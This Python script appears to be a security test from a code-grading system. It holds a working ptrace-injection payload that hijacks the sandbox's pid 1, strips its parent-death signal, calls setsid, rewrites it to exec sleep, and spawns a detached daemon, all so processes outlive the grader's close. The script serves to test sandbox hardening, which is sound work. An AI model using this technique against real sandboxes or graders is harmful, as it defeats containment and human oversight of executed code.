"""S4: a kernel ptraces its sandbox's pid 1 (bwrap's reaper: same uid, no capability, so
allowed) and makes it call prctl(PR_SET_PDEATHSIG, 0) and setsid(): does the sandbox (and a
daemon in it) outlive the grader's close? python attacks/s4_pid1.py [fresh]  (x86_64)"""
from __future__ import annotations

import os
import subprocess
import sys
import time

if "fresh" in sys.argv[1:]:
    os.environ["NORMCOURSE_FRESH_KERNELS"] = "1"

from normcourse.grading.kernel import GradingKernel  # noqa: E402

INJECT = r'''
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
libc.ptrace.argtypes = [ctypes.c_long, ctypes.c_long, ctypes.c_void_p, ctypes.c_void_p]
libc.ptrace.restype = ctypes.c_long
NAMES = ("r15 r14 r13 r12 rbp rbx r11 r10 r9 r8 rax rcx rdx rsi rdi orig_rax rip cs eflags "
         "rsp ss fs_base gs_base ds es fs gs").split()
class Regs(ctypes.Structure):
    _fields_ = [(n, ctypes.c_ulonglong) for n in NAMES]
ATTACH, GETREGS, SETREGS, STEP, DETACH, PEEK = 16, 12, 13, 9, 17, 1
WALL = 0x40000000
def call(pid, nr, *args):
    saved = Regs()
    assert libc.ptrace(GETREGS, pid, None, ctypes.byref(saved)) == 0
    word = libc.ptrace(PEEK, pid, ctypes.c_void_p(saved.rip - 2), None) & 0xFFFF
    assert word == 0x050F, hex(word)  # stopped just after a syscall instruction
    regs = Regs.from_buffer_copy(saved)
    regs.rax, regs.orig_rax, regs.rip = nr, (1 << 64) - 1, saved.rip - 2
    for name, a in zip(("rdi", "rsi", "rdx"), args):
        setattr(regs, name, a)
    assert libc.ptrace(SETREGS, pid, None, ctypes.byref(regs)) == 0
    assert libc.ptrace(STEP, pid, None, None) == 0
    os.waitpid(pid, WALL)
    out = Regs()
    libc.ptrace(GETREGS, pid, None, ctypes.byref(out))
    assert libc.ptrace(SETREGS, pid, None, ctypes.byref(saved)) == 0
    return ctypes.c_longlong(out.rax).value
def exec_sleep(pid):
    """Make pid run execve("/bin/sleep", ["sleep", "100002"], NULL): it stays the PID
    namespace's init, so the sandbox and all in it live on."""
    regs = Regs()
    libc.ptrace(GETREGS, pid, None, ctypes.byref(regs))
    base = (regs.rsp - 4096) & ~15
    blob = b"/bin/sleep\0".ljust(16, b"\0") + b"sleep\0".ljust(8, b"\0") + b"100002\0".ljust(8, b"\0")
    ptrs = (base).to_bytes(8, "little")  # placeholder, argv below
    argv = (base + 16).to_bytes(8, "little") + (base + 24).to_bytes(8, "little") + bytes(8)
    data = blob + argv
    libc.ptrace.argtypes = [ctypes.c_long, ctypes.c_long, ctypes.c_void_p, ctypes.c_void_p]
    for off in range(0, len(data), 8):
        word = int.from_bytes(data[off:off + 8].ljust(8, b"\0"), "little")
        assert libc.ptrace(4, pid, ctypes.c_void_p(base + off), ctypes.c_void_p(word)) == 0  # POKEDATA
    word = libc.ptrace(PEEK, pid, ctypes.c_void_p(regs.rip - 2), None) & 0xFFFF
    assert word == 0x050F, hex(word)
    regs.rax, regs.orig_rax, regs.rip = 59, (1 << 64) - 1, regs.rip - 2
    regs.rdi, regs.rsi, regs.rdx = base, base + len(blob), 0
    assert libc.ptrace(SETREGS, pid, None, ctypes.byref(regs)) == 0
pid = 1
assert libc.ptrace(ATTACH, pid, None, None) == 0, os.strerror(ctypes.get_errno())
os.waitpid(pid, WALL)
r1 = call(pid, 157, 1, 0)  # prctl(PR_SET_PDEATHSIG, 0)
r2 = call(pid, 112)        # setsid()
exec_sleep(pid)
libc.ptrace(DETACH, pid, None, None)
import time
time.sleep(0.5)
print(open("/proc/1/cmdline", "rb").read())
if os.fork() == 0:  # a daemon in the sandbox, without the token
    os.setsid()
    os.execve("/bin/sleep", ["sleep", "100001"], {})
print("INJECTED", r1, r2)
'''


def survivors() -> str:
    return subprocess.run("ps -eo pid,ppid,stat,cmd | grep -E 'sleep 100001|bwrap' | "
                          "grep -v grep | grep -v 'wt/[a-rt-z]' | cut -c1-120", shell=True,
                          capture_output=True, text=True).stdout


def main():
    mode = "fresh" if os.environ.get("NORMCOURSE_FRESH_KERNELS") else "fork"
    k = GradingKernel(mode="bwrap")
    try:
        k.start()
        r = k.run(INJECT, 60, capture=True)
        print(mode, r.status, r.ename, r.evalue, r.stdout.strip())
    finally:
        k.close()
    time.sleep(3)
    print(mode, "3 s after close:\n" + survivors())


if __name__ == "__main__":
    main()
